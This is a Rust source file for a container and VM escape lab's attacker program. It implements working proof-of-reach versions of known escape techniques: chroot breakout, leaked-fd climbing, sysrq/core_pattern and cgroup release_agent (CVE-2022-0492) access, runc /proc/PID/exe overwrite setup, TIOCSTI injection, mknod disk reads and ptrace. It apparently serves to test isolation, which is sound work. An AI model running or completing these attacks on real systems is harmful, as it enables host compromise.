//! The escape lab's attacker: one static x86_64 program with no libc, a
//! mode per attack, each printing one result line and exiting 0.
//!
//! It runs as a container's command (and, for `all`, inside a Linux VM
//! guest) and tries, with raw system calls, what escapes of that class
//! did. Every attack stops at proof of reach: it opens what it could
//! harm, reads what is harmless to read, and writes nothing outside its
//! own root.
//!
//! Result lines:
//!   virtlab.lab attack=NAME outcome=blocked step=STEP errno=N
//!   virtlab.lab attack=NAME outcome=reached detail=TEXT
//!
//! Modes:
//!   chroot PATH        mkdir /tmp/x + chroot into it, chdir("..") until the top,
//!                      chroot("."), then read PATH (a host file)
//!   fd PATH            fchdir to any open directory fd above 2, climb with
//!                      "..", then read PATH relative to where that ends
//!   sysrq              open /proc/sysrq-trigger for writing (never written;
//!                      /proc/sys/kernel/core_pattern on a kernel without it)
//!   keyctl DESC        search the session keyring for the "user" key DESC
//!                      and read it
//!   proc-keys DESC     read /proc/keys and look for the key DESC there
//!   mknod MAJ MIN      make a block device node, open it, read one sector
//!   ptrace PID         PTRACE_ATTACH to PID, then detach at once
//!   exe                wait for a host binary to run in this PID namespace
//!                      (as `runc exec` did), open it through /proc/PID/exe,
//!                      and once it exits, reopen it for writing (never written)
//!   tiocsti            TIOCSTI into /dev/tty: "typed" input for whatever
//!                      reads that terminal next (the shell the container
//!                      was started from)
//!   release-agent      a new user, mount and cgroup namespace, a cgroup v1
//!                      hierarchy mounted (rdma, freezer, cpuset, ...), release_agent opened for writing
//!                      (never written)
//!   all                each attack in turn, against this machine's own
//!                      files and processes (what a VM guest runs)
//!   sleep SECONDS      sleep (the lab's sacrificial process)

#![no_std]
#![no_main]

use core::panic::PanicInfo;

#[path = "../../freestanding/rt/linux.rs"]
mod linux;
#[path = "../../freestanding/rt/mem.rs"]
mod mem;
#[path = "../../freestanding/rt/text.rs"]
#[allow(dead_code)]
mod text;

use linux::syscall6;
use text::{parse_u64, Args, Line};

// Linux x86_64 system call numbers (arch/x86/entry/syscalls/syscall_64.tbl).
const SYS_READ: u64 = 0;
const SYS_OPEN: u64 = 2;
const SYS_CLOSE: u64 = 3;
const SYS_IOCTL: u64 = 16;
const SYS_NANOSLEEP: u64 = 35;
const SYS_GETPID: u64 = 39;
const SYS_WAIT4: u64 = 61;
const SYS_CHDIR: u64 = 80;
const SYS_FCHDIR: u64 = 81;
const SYS_MKDIR: u64 = 83;
const SYS_READLINK: u64 = 89;
const SYS_PTRACE: u64 = 101;
const SYS_MKNOD: u64 = 133;
const SYS_CHROOT: u64 = 161;
const SYS_MOUNT: u64 = 165;
const SYS_KEYCTL: u64 = 250;
const SYS_UNSHARE: u64 = 272;

const O_RDONLY: u64 = 0;
const O_WRONLY: u64 = 1;
const O_RDWR: u64 = 2;
const TIOCSTI: u64 = 0x5412;
const O_PATH: u64 = 0o10000000;
const S_IFBLK: u64 = 0o060000;
const KEY_SPEC_SESSION_KEYRING: u64 = (-3i64) as u64;
const KEYCTL_SEARCH: u64 = 10;
const KEYCTL_READ: u64 = 11;
const PTRACE_ATTACH: u64 = 16;
const PTRACE_DETACH: u64 = 17;
const WALL: u64 = 0x4000_0000;
const WNOHANG: u64 = 1;
const CLONE_NEWNS: u64 = 0x0002_0000;
const CLONE_NEWCGROUP: u64 = 0x0200_0000;
const CLONE_NEWUSER: u64 = 0x1000_0000;

/// # Safety
/// `sp` is the initial stack pointer of the process (argc, argv..., NULL).
unsafe extern "C" fn start(sp: *const usize) -> ! {
    // SAFETY: the ABI puts argc at sp[0] and argc argv pointers after it.
    let args = unsafe { Args::from_stack(sp) };
    linux::exit(run(&args) as u64)
}

fn run(args: &Args) -> i32 {
    let mode = args.get(1).unwrap_or(b"");
    let a = args.get(2);
    let b = args.get(3);
    match (mode, a, b) {
        (b"chroot", Some(path), _) => chroot(path),
        (b"fd", Some(path), _) => leaked_fd(path),
        (b"sysrq", _, _) => sysrq(),
        (b"keyctl", Some(desc), _) => keyctl(desc),
        (b"proc-keys", Some(desc), _) => proc_keys(desc),
        (b"mknod", Some(maj), Some(min)) => match (parse_u64(maj), parse_u64(min)) {
            (Some(maj), Some(min)) => mknod(maj, min),
            _ => usage(),
        },
        (b"ptrace", Some(pid), _) => match parse_u64(pid) {
            Some(pid) => ptrace(pid),
            None => usage(),
        },
        (b"release-agent", _, _) => release_agent(),
        (b"exe", _, _) => exe(500),
        (b"tiocsti", _, _) => tiocsti(),
        (b"all", _, _) => all(),
        (b"sleep", Some(s), _) => match parse_u64(s) {
            Some(s) => sleep_ms(s * 1000),
            None => usage(),
        },
        _ => usage(),
    }
}

fn usage() -> i32 {
    let mut l = Line::new();
    l.push(b"usage: virtlab-attacker chroot PATH | fd PATH | sysrq | keyctl DESC | proc-keys DESC | mknod MAJ MIN |");
    l.push(b" ptrace PID |");
    l.push(b" exe | tiocsti | release-agent | all | sleep SECONDS\n");
    l.flush(2);
    2
}

/// Every attack in turn, against this machine's own objects: what a VM
/// guest runs to show that the same attacks reach only the guest.
fn all() -> i32 {
    chroot(b"/etc/hostname");
    leaked_fd(b"/etc/hostname");
    sysrq();
    keyctl(b"virtlab-lab-secret");
    proc_keys(b"virtlab-lab-secret");
    mknod(254, 0);
    ptrace(1);
    // No visitor comes into a guest: one look is enough.
    exe(1);
    tiocsti();
    release_agent();
    0
}

// ---- the attacks ---------------------------------------------------------

fn chroot(path: &[u8]) -> i32 {
    let name = b"chroot";
    let inner = b"/tmp/.virtlab-lab-chroot\0";
    // An existing directory (from an earlier run) is fine.
    // SAFETY: a NUL-terminated path.
    unsafe { sys(SYS_MKDIR, inner.as_ptr() as u64, 0o700, 0) };
    // SAFETY: a NUL-terminated path.
    let r = unsafe { sys(SYS_CHROOT, inner.as_ptr() as u64, 0, 0) };
    if r < 0 {
        return blocked(name, b"chroot", r);
    }
    for _ in 0..64 {
        // SAFETY: a NUL-terminated path.
        unsafe { sys(SYS_CHDIR, b"..\0".as_ptr() as u64, 0, 0) };
    }
    // SAFETY: a NUL-terminated path.
    unsafe { sys(SYS_CHROOT, b".\0".as_ptr() as u64, 0, 0) };
    read_file(name, path, path)
}

fn leaked_fd(path: &[u8]) -> i32 {
    let name = b"leaked-fd";
    let mut last = -9; // EBADF
    for fd in 3..256u64 {
        // SAFETY: fchdir takes an integer.
        let r = unsafe { sys(SYS_FCHDIR, fd, 0, 0) };
        if r == 0 {
            for _ in 0..64 {
                // SAFETY: a NUL-terminated path.
                unsafe { sys(SYS_CHDIR, b"..\0".as_ptr() as u64, 0, 0) };
            }
            // Relative to where the climb ended.
            let rel = path.strip_prefix(b"/").unwrap_or(path);
            return read_file(name, rel, path);
        }
        if r != -9 {
            last = r;
        }
    }
    blocked(name, b"fchdir", last)
}

fn sysrq() -> i32 {
    let name = b"sysrq";
    // SAFETY: a NUL-terminated path.
    let fd = unsafe { sys(SYS_OPEN, b"/proc/sysrq-trigger\0".as_ptr() as u64, O_WRONLY, 0) };
    if fd >= 0 {
        close(fd);
        return reached(
            name,
            b"/proc/sysrq-trigger is open for writing: one byte would reboot or crash the host (not written)",
        );
    }
    if fd != -2 {
        return blocked(name, b"open_sysrq_trigger", fd);
    }
    // A kernel without magic SysRq: the other host-wide switch of the same
    // kind, the core dump handler (a "|program" there runs as host root).
    // SAFETY: a NUL-terminated path.
    let fd = unsafe { sys(SYS_OPEN, b"/proc/sys/kernel/core_pattern\0".as_ptr() as u64, O_WRONLY, 0) };
    if fd < 0 {
        return blocked(name, b"open_core_pattern", fd);
    }
    close(fd);
    reached(
        name,
        b"/proc/sys/kernel/core_pattern is open for writing (this kernel has no sysrq-trigger): a |program there runs as host root at the next crash (not written)",
    )
}

fn keyctl(desc: &[u8]) -> i32 {
    let name = b"keyctl";
    let mut d = [0u8; 128];
    let Some(desc_c) = cstr(desc, &mut d) else { return usage() };
    // SAFETY: NUL-terminated type and description.
    let id = unsafe {
        syscall6(SYS_KEYCTL, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, b"user\0".as_ptr() as u64, desc_c, 0, 0)
    } as i64;
    if id < 0 {
        return blocked(name, b"keyctl_search", id);
    }
    let mut buf = [0u8; 96];
    // SAFETY: buf is writable for its length.
    let n = unsafe { syscall6(SYS_KEYCTL, KEYCTL_READ, id as u64, buf.as_mut_ptr() as u64, buf.len() as u64, 0, 0) }
        as i64;
    if n < 0 {
        return blocked(name, b"keyctl_read", n);
    }
    let mut l = Line::new();
    l.push(b"virtlab.lab attack=keyctl outcome=reached detail=read key ").num(id as u64).push(b" (");
    l.push(desc).push(b") of the session keyring: ");
    l.text(&buf[..(n as usize).min(buf.len())]).push(b"\n");
    l.flush(1);
    0
}

fn proc_keys(desc: &[u8]) -> i32 {
    let name = b"proc-keys";
    // SAFETY: a NUL-terminated path.
    let fd = unsafe { sys(SYS_OPEN, b"/proc/keys\0".as_ptr() as u64, O_RDONLY, 0) };
    if fd < 0 {
        return blocked(name, b"open", fd);
    }
    let mut buf = [0u8; 4096];
    let mut len = 0usize;
    while len < buf.len() {
        // SAFETY: the rest of buf is writable.
        let n = unsafe { sys(SYS_READ, fd as u64, buf[len..].as_mut_ptr() as u64, (buf.len() - len) as u64) };
        if n <= 0 {
            break;
        }
        len += n as usize;
    }
    close(fd);
    if len == 0 {
        // errno 0: nothing failed, the file is empty (/dev/null bound over it).
        return blocked(name, b"read_empty", 0);
    }
    for line in buf[..len].split(|&c| c == b'\n') {
        if line.windows(desc.len()).any(|w| w == desc) {
            let mut l = Line::new();
            l.push(b"virtlab.lab attack=proc-keys outcome=reached detail=/proc/keys lists the host's key: ");
            l.text(line).push(b"\n");
            l.flush(1);
            return 0;
        }
    }
    // Readable, but the key is not shown to this process.
    blocked(name, b"find_key", 2)
}

fn mknod(major: u64, minor: u64) -> i32 {
    let name = b"mknod";
    let path = b"/.virtlab-lab-disk\0";
    let dev = ((major & 0xfff) << 8) | (minor & 0xff) | ((minor & !0xff) << 12) | ((major & !0xfff) << 32);
    // SAFETY: a NUL-terminated path.
    let r = unsafe { sys(SYS_MKNOD, path.as_ptr() as u64, S_IFBLK | 0o600, dev) };
    if r < 0 && r != -17 {
        return blocked(name, b"mknod", r);
    }
    // SAFETY: a NUL-terminated path.
    let fd = unsafe { sys(SYS_OPEN, path.as_ptr() as u64, O_RDONLY, 0) };
    if fd < 0 {
        return blocked(name, b"open", fd);
    }
    let mut sector = [0u8; 512];
    // SAFETY: sector is writable for its length.
    let n = unsafe { sys(SYS_READ, fd as u64, sector.as_mut_ptr() as u64, sector.len() as u64) };
    close(fd);
    if n < 0 {
        return blocked(name, b"read", n);
    }
    let mut l = Line::new();
    l.push(b"virtlab.lab attack=mknod outcome=reached detail=opened the host disk ").num(major).push(b":");
    l.num(minor).push(b" through its own node and read ").num(n as u64).push(b" bytes of sector 0");
    if n > 0 {
        l.push(b" (first bytes");
        for &byte in &sector[..8] {
            l.push(b" ").hex2(byte);
        }
        l.push(b")");
    }
    l.push(b"\n");
    l.flush(1);
    0
}

fn ptrace(pid: u64) -> i32 {
    let name = b"ptrace";
    // SAFETY: ptrace with integer arguments.
    let r = unsafe { syscall6(SYS_PTRACE, PTRACE_ATTACH, pid, 0, 0, 0, 0) } as i64;
    if r < 0 {
        return blocked(name, b"ptrace_attach", r);
    }
    // Wait for the tracee's stop, a bounded while: a PID 1 drops the
    // SIGSTOP that PTRACE_ATTACH sends and never stops.
    for _ in 0..50 {
        let mut status = 0u32;
        // SAFETY: status is writable for the call.
        let r = unsafe { syscall6(SYS_WAIT4, pid, &mut status as *mut u32 as u64, WALL | WNOHANG, 0, 0, 0) } as i64;
        if r != 0 {
            break;
        }
        sleep_ms(10);
    }
    // SAFETY: ptrace with integer arguments; the tracee goes on as before.
    unsafe { syscall6(SYS_PTRACE, PTRACE_DETACH, pid, 0, 0, 0, 0) };
    let mut l = Line::new();
    l.push(b"virtlab.lab attack=ptrace outcome=reached detail=attached to pid ").num(pid);
    l.push(b": its memory and registers were the attacker's (detached at once)\n");
    l.flush(1);
    0
}

/// `rounds`: how many times to look (10 ms apart) for the visitor.
fn exe(rounds: u32) -> i32 {
    let name = b"exe";
    // Find another process's executable: a host binary that entered this
    // PID namespace (the container's own command is PID 1).
    let mut fd = -2;
    // SAFETY: getpid has no arguments.
    let me = unsafe { sys(SYS_GETPID, 0, 0, 0) } as u64;
    'search: for _ in 0..rounds {
        for pid in (2..64u64).filter(|&p| p != me) {
            let mut path = Line::new();
            path.push(b"/proc/").num(pid).push(b"/exe\0");
            // SAFETY: a NUL-terminated path; O_PATH opens no file for I/O.
            let r = unsafe { sys(SYS_OPEN, path.buf.as_ptr() as u64, O_PATH, 0) };
            if r >= 0 && !is_the_scenes_copy(r) {
                // Caught between the visitor's fork and its execve: still
                // the lab's own binary, never a target. Look again.
                close(r);
                continue;
            }
            if r >= 0 || r == -13 || r == -1 {
                fd = r;
                break 'search;
            }
        }
        sleep_ms(10);
    }
    if fd < 0 {
        return blocked(name, if fd == -2 { b"find_process" } else { b"open_exe" }, fd);
    }
    // The binary cannot be opened for writing while it runs (ETXTBSY):
    // wait until it exits, then reopen the file through the O_PATH fd.
    let mut path = Line::new();
    path.push(b"/proc/self/fd/").num(fd as u64).push(b"\0");
    let mut r = -26;
    for _ in 0..500 {
        // SAFETY: a NUL-terminated path.
        r = unsafe { sys(SYS_OPEN, path.buf.as_ptr() as u64, O_WRONLY, 0) };
        if r != -26 {
            break;
        }
        sleep_ms(10);
    }
    if r < 0 {
        return blocked(name, b"reopen_for_writing", r);
    }
    close(r);
    reached(name, b"the host binary that ran in the container is open for writing: the next run of it on the host would run the attacker's code (not written)")
}

/// Whether the O_PATH `fd` is the scene's copy of a binary (its name ends
/// in `/sacrificial`): the lab's rail, so the attack only ever reaches that
/// copy.
fn is_the_scenes_copy(fd: i64) -> bool {
    let mut link = Line::new();
    link.push(b"/proc/self/fd/").num(fd as u64).push(b"\0");
    let mut target = [0u8; 256];
    // SAFETY: a NUL-terminated path and a writable buffer of that length.
    let n = unsafe { sys(SYS_READLINK, link.buf.as_ptr() as u64, target.as_mut_ptr() as u64, target.len() as u64) };
    n > 0 && target[..n as usize].ends_with(b"/sacrificial")
}

fn tiocsti() -> i32 {
    let name = b"tiocsti";
    // SAFETY: a NUL-terminated path.
    let fd = unsafe { sys(SYS_OPEN, b"/dev/tty\0".as_ptr() as u64, O_RDWR, 0) };
    if fd < 0 {
        return blocked(name, b"open_dev_tty", fd);
    }
    for c in b"virtlab-lab-typed\n" {
        // SAFETY: TIOCSTI reads one byte at the pointer.
        let r = unsafe { sys(SYS_IOCTL, fd as u64, TIOCSTI, c as *const u8 as u64) };
        if r < 0 {
            close(fd);
            return blocked(name, b"ioctl_tiocsti", r);
        }
    }
    close(fd);
    reached(name, b"typed a line into the terminal the container was started from: its shell reads it next as if the user typed it")
}

fn release_agent() -> i32 {
    let name = b"release-agent";
    let dir = b"/.virtlab-lab-cgroup\0";
    // SAFETY: a NUL-terminated path.
    unsafe { sys(SYS_MKDIR, dir.as_ptr() as u64, 0o700, 0) };
    // What the CVE-2022-0492 exploits did first: namespaces of its own, in
    // which it holds every capability (`unshare -UrmC`).
    // SAFETY: unshare takes flags.
    let r = unsafe { sys(SYS_UNSHARE, CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP, 0, 0) };
    if r < 0 {
        return blocked(name, b"unshare", r);
    }
    // Map the new namespace's root onto the caller's own ids.
    write_file(b"/proc/self/setgroups\0", b"deny");
    write_file(b"/proc/self/uid_map\0", b"0 0 1");
    write_file(b"/proc/self/gid_map\0", b"0 0 1");
    // A v1 hierarchy no container cgroup is placed in: the caller sits at
    // its root, where release_agent lives. The first one this kernel has.
    let mut r = -22;
    for opts in [&b"rdma\0"[..], b"freezer\0", b"cpuset\0", b"misc\0", b"net_cls\0"] {
        // SAFETY: NUL-terminated strings.
        r = unsafe {
            syscall6(
                SYS_MOUNT,
                b"cgroup\0".as_ptr() as u64,
                dir.as_ptr() as u64,
                b"cgroup\0".as_ptr() as u64,
                0,
                opts.as_ptr() as u64,
                0,
            )
        } as i64;
        if r == 0 {
            break;
        }
    }
    if r < 0 {
        return blocked(name, b"mount", r);
    }
    // SAFETY: a NUL-terminated path.
    let fd = unsafe { sys(SYS_OPEN, b"/.virtlab-lab-cgroup/release_agent\0".as_ptr() as u64, O_WRONLY, 0) };
    if fd < 0 {
        return blocked(name, b"open_release_agent", fd);
    }
    close(fd);
    reached(
        name,
        b"release_agent of a host cgroup v1 hierarchy is open for writing: a program named there runs as host root (not written)",
    )
}

fn sleep_ms(ms: u64) -> i32 {
    let ts = [ms / 1000, (ms % 1000) * 1_000_000];
    // SAFETY: ts is a readable timespec; no remainder asked for.
    unsafe { sys(SYS_NANOSLEEP, ts.as_ptr() as u64, 0, 0) };
    0
}

// ---- helpers -------------------------------------------------------------

/// A system call of up to three arguments, as a signed result.
///
/// # Safety
/// As [`syscall6`].
unsafe fn sys(nr: u64, a: u64, b: u64, c: u64) -> i64 {
    // SAFETY: the caller's promise.
    unsafe { syscall6(nr, a, b, c, 0, 0, 0) as i64 }
}

fn close(fd: i64) {
    // SAFETY: close takes an integer.
    unsafe { sys(SYS_CLOSE, fd as u64, 0, 0) };
}

/// `s` copied into `buf` with a NUL after it; the pointer, as an argument.
fn cstr(s: &[u8], buf: &mut [u8]) -> Option<u64> {
    if s.len() >= buf.len() {
        return None;
    }
    buf[..s.len()].copy_from_slice(s);
    buf[s.len()] = 0;
    Some(buf.as_ptr() as u64)
}

fn write_file(path: &[u8], text: &[u8]) {
    // SAFETY: a NUL-terminated path.
    let fd = unsafe { sys(SYS_OPEN, path.as_ptr() as u64, O_WRONLY, 0) };
    if fd >= 0 {
        linux::write(fd as u64, text);
        close(fd);
    }
}

/// Opens and reads `path` (shown as `shown`): reached with its first
/// bytes, or blocked.
fn read_file(name: &[u8], path: &[u8], shown: &[u8]) -> i32 {
    let mut p = [0u8; 256];
    let Some(pc) = cstr(path, &mut p) else { return usage() };
    // SAFETY: a NUL-terminated path.
    let fd = unsafe { sys(SYS_OPEN, pc, O_RDONLY, 0) };
    if fd < 0 {
        return blocked(name, b"open", fd);
    }
    let mut buf = [0u8; 80];
    // SAFETY: buf is writable for its length.
    let n = unsafe { sys(SYS_READ, fd as u64, buf.as_mut_ptr() as u64, buf.len() as u64) };
    close(fd);
    let mut l = Line::new();
    l.push(b"virtlab.lab attack=").push(name).push(b" outcome=reached detail=read ").push(shown);
    l.push(b", outside its root: ").text(&buf[..n.max(0) as usize]).push(b"\n");
    l.flush(1);
    0
}

fn blocked(name: &[u8], step: &[u8], ret: i64) -> i32 {
    let mut l = Line::new();
    l.push(b"virtlab.lab attack=").push(name).push(b" outcome=blocked step=").push(step);
    l.push(b" errno=").num(ret.unsigned_abs()).push(b"\n");
    l.flush(1);
    0
}

fn reached(name: &[u8], detail: &[u8]) -> i32 {
    let mut l = Line::new();
    l.push(b"virtlab.lab attack=").push(name).push(b" outcome=reached detail=").push(detail).push(b"\n");
    l.flush(1);
    0
}

#[panic_handler]
fn panic(_: &PanicInfo) -> ! {
    let mut l = Line::new();
    l.push(b"virtlab.error attacker panicked\n");
    l.flush(2);
    linux::exit(101)
}
